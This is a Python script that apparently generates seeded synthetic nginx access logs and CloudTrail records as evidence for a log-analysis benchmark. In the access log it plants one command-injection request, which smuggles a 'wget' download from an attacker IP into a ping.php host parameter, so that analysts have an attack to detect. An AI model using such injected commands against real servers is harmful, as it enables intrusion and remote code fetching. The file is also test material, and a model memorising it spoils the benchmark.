#!/usr/bin/env python3
"""Synthetic evidence for bench/analyze/run (deterministic: seeded).
  gen.py access N FILE      nginx combined log, N lines (a few attacks mixed in)
  gen.py cloudtrail N DIR   CloudTrail log files as delivered to S3 (.json.gz, 1000 events each)
"""
import gzip
import json
import os
import random
import sys

R = random.Random(42)
MON = "Nov"
PATHS = ["/", "/index.html", "/products/%d", "/img/p%d.jpg", "/css/site.css", "/js/app.js",
         "/api/cart?item=%d&qty=1", "/search?q=shoes+size+%d", "/login", "/account/orders"]
UAS = ["Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0",
       "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
       "Chrome/119.0 Safari/537.36",
       "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148",
       "curl/8.4.0"]


def access(n, path):
    ips = ["%d.%d.%d.%d" % (R.randint(1, 223), R.randint(0, 255), R.randint(0, 255),
                            R.randint(1, 254)) for _ in range(5000)]
    with open(path, "w") as f:
        t = 0
        for i in range(n):
            if i % 20 == 0:
                t += 1
            h, m, s = (t // 3600) % 24, (t // 60) % 60, t % 60
            ts = "27/%s/2026:%02d:%02d:%02d +0000" % (MON, h, m, s)
            if i % 100000 == 50000:
                req = "GET /ping.php?host=1.1.1.1%3Bwget%20http%3A%2F%2F203.0.113.7%2Fx HTTP/1.1"
                ip = "203.0.113.7"
            else:
                p = R.choice(PATHS)
                if "%d" in p:
                    p = p % R.randint(1, 5000)
                req = "GET %s HTTP/1.1" % p
                ip = R.choice(ips)
            st = 200 if R.random() < 0.93 else R.choice((301, 304, 404, 500))
            f.write('%s - - [%s] "%s" %d %d "https://shop.example.com/" "%s"\n'
                    % (ip, ts, req, st, R.randint(200, 90000), R.choice(UAS)))


def cloudtrail(n, out):
    os.makedirs(out, exist_ok=True)
    names = ["DescribeInstances", "GetObject", "PutObject", "AssumeRole", "ListBuckets",
             "GetCallerIdentity", "DescribeSecurityGroups", "CreateNetworkAclEntry"]
    per = 1000
    for fi in range((n + per - 1) // per):
        recs = []
        for j in range(min(per, n - fi * per)):
            k = fi * per + j
            recs.append({
                "eventVersion": "1.08",
                "userIdentity": {"type": "AssumedRole", "principalId": "AROAEXAMPLE:i-0abc%04d" % (k % 50),
                                 "arn": "arn:aws:sts::123456789012:assumed-role/web/i-0abc%04d" % (k % 50),
                                 "accountId": "123456789012", "accessKeyId": "ASIAEXAMPLE%08d" % (k % 97),
                                 "sessionContext": {"sessionIssuer": {"type": "Role", "arn": "arn:aws:iam::123456789012:role/web"},
                                                    "attributes": {"creationDate": "2026-11-27T00:00:00Z", "mfaAuthenticated": "false"}}},
                "eventTime": "2026-11-27T%02d:%02d:%02dZ" % ((k // 3600) % 24, (k // 60) % 60, k % 60),
                "eventSource": "ec2.amazonaws.com", "eventName": names[k % len(names)],
                "awsRegion": "us-east-1", "sourceIPAddress": "10.0.%d.%d" % (k % 200, k % 250 + 1),
                "userAgent": "aws-sdk-go/1.44.0 (go1.21; linux; amd64)",
                "requestParameters": {"instancesSet": {"items": [{"instanceId": "i-0abc%04d" % (k % 50)}]},
                                      "filterSet": {}},
                "responseElements": None,
                "requestID": "%08x-aaaa-bbbb-cccc-%012x" % (k, k),
                "eventID": "%08x-1111-2222-3333-%012x" % (k, k),
                "readOnly": True, "eventType": "AwsApiCall", "managementEvent": True,
                "recipientAccountId": "123456789012", "eventCategory": "Management",
                "tlsDetails": {"tlsVersion": "TLSv1.3", "cipherSuite": "TLS_AES_128_GCM_SHA256",
                               "clientProvidedHostHeader": "ec2.us-east-1.amazonaws.com"}})
        name = "123456789012_CloudTrail_us-east-1_20261127T%04dZ_%04d.json.gz" % (fi % 2400, fi)
        with gzip.open(os.path.join(out, name), "wt", compresslevel=6) as f:
            json.dump({"Records": recs}, f)


if __name__ == "__main__":
    if sys.argv[1] == "access":
        access(int(sys.argv[2]), sys.argv[3])
    else:
        cloudtrail(int(sys.argv[2]), sys.argv[3])
